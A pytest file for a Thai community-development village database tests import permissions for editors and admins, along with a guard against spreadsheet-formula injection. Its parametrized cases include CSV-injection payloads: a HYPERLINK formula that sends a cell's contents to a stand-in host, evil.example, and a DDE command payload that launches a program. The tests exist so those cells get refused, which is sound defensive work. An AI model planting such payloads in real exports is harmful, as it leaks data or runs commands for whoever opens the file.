"""An editor's import goes through the rule set of their form saves (fields only admins set,
provinces), and titles that would run as spreadsheet formulas are refused on the way in."""

from __future__ import annotations

import pytest
from sqlalchemy import select

from cdd_click import accounts
from cdd_click.content import importer
from cdd_click.extensions import db
from cdd_click.models import Village
from tests.test_import import VILLAGE_HEAD, VILLAGES, centroids, csv_book  # noqa: F401

HEAD = VILLAGE_HEAD + ",หมู่บ้านแนะนำ"


@pytest.fixture
def people(app, centroids):  # noqa: F811 - the fixture of tests.test_import
    admin = accounts.create_user("admin-rules@cdd.go.th", "a long enough password", "admin")
    editor = accounts.create_user("cm-rules@cdd.go.th", "a long enough password", "editor",
                                  ["50"])
    return admin, editor


def _plan(user, featured: str):
    return importer.plan_import(csv_book([HEAD, f"{VILLAGES[0]},{featured}"]), user)


def _stored(user, featured: str) -> Village:
    importer.apply_import(_plan(user, featured), user)
    return db.session.scalar(select(Village).where(Village.external_id == "V-1"))


def test_an_editor_cannot_feature_or_unfeature_a_village_by_import(people):
    admin, editor = people
    refused = _plan(editor, "ใช่")  # a new village, featured
    assert [(r.row, r.column) for r in refused.refusals] == [(2, "หมู่บ้านแนะนำ")]
    assert "ผู้ดูแลระบบ" in refused.refusals[0].message
    assert "แถว 2 คอลัมน์ หมู่บ้านแนะนำ" in str(refused.refusals[0])

    assert _stored(admin, "ใช่").featured  # an admin may
    unfeature = _plan(editor, "ไม่")
    assert [(r.row, r.column) for r in unfeature.refusals] == [(2, "หมู่บ้านแนะนำ")]
    assert _plan(editor, "ใช่").ok  # the value it has: nothing changes, nothing refused
    assert _stored(admin, "ไม่").featured is False
    assert _plan(editor, "ไม่").ok
    assert not _plan(editor, "ใช่").ok


def test_the_form_and_the_import_share_one_rule_set(people):
    from cdd_click import permissions

    admin, editor = people
    village = _stored(admin, "ใช่")
    values = {"featured": False, "subdistrict_code": village.subdistrict_code}
    reasons = permissions.refusals(editor, Village, village, values)
    assert reasons == {"featured": permissions.admin_only_fields()["featured"]}
    kept = permissions.kept_for_editor(editor, village, Village, {"featured": False, "moo": 4})
    assert kept == {"featured": True, "moo": 4}  # an editor's form sends no such box
    assert permissions.refusals(admin, Village, village, values) == {}


@pytest.mark.parametrize("column, cell", [
    ("ชื่อ", '"=HYPERLINK(""http://evil.example/?d=""&A3,""ดูรายงาน"")"'),
    ("ชื่อ", "+บ้านสูตร"),
    ("ชื่อ", "@บ้านสูตร"),
    ("ชื่อภาษาอังกฤษ", "=1+1"),
    ("คำอธิบายสั้น", "=cmd|' /c calc'!A0"),
])
def test_a_heading_that_starts_like_a_formula_is_refused_by_row_and_column(app, centroids,  # noqa: F811
                                                                            column, cell):
    values = dict(zip(VILLAGE_HEAD.split(","), VILLAGES[0].split(","), strict=True))
    values[column] = cell
    plan = importer.plan_import(csv_book([VILLAGE_HEAD, ",".join(values.values())]))
    assert [(r.row, r.column) for r in plan.refusals] == [(2, column)]
    assert "สูตร" in plan.refusals[0].message


def test_a_leading_hyphen_or_a_trimmed_tab_is_not_a_formula(app, centroids):  # noqa: F811
    line = VILLAGES[0].replace("หมู่บ้านทดสอบ", "- หมู่บ้านริมน้ำ").replace(
        "บ้านห้วยแก้วทดสอบ", "\tบ้านห้วยแก้วทดสอบ")
    plan = importer.plan_import(csv_book([VILLAGE_HEAD, line]))
    assert plan.ok, [str(r) for r in plan.refusals]
